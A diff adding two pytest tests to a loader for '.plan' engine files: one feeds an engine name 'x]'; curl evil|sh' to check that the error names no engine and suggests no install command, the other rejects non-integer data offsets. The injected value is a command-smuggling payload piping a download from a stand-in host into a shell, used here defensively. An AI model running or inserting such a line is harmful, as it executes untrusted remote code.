@@ -265,6 +265,28 @@ def test_another_version_of_the_engine(built, tmp_path):
         Plan.load(tmp_path / "old.plan", threads=1)
 
 
+def test_an_unknown_engine_is_named_without_a_command(built, tmp_path):
+    document, models = read_plan(built[0])
+    trials = tuple(replace(t, engine="x]'; curl evil|sh") for t in document.trials)
+    write_plan(tmp_path / "other.plan", replace(document, trials=trials), models)
+    with pytest.raises(DataError, match="no engine of this cubemesh") as caught:
+        Plan.load(tmp_path / "other.plan", threads=1)
+    assert "pip install" not in str(caught.value)
+
+
+def test_places_of_models_are_whole_numbers(built, tmp_path):
+    content, path = built[0].read_bytes(), tmp_path / "floats.plan"
+    begin = 8 + int.from_bytes(content[:8], "little")
+    header = json.loads(content[8:begin])
+    for name, array in header.items():
+        if name != "__metadata__":
+            array["data_offsets"] = [float(place) for place in array["data_offsets"]]
+    text = json.dumps(header).encode()
+    path.write_bytes(len(text).to_bytes(8, "little") + text + content[begin:])
+    with pytest.raises(DataError, match="other arrays than models"):
+        Plan.load(path, threads=1)
+
+
 def test_damaged_plans_get_a_sentence(built, tmp_path):
     content, path = built[0].read_bytes(), tmp_path / "damaged.plan"
     rng = np.random.default_rng(0)
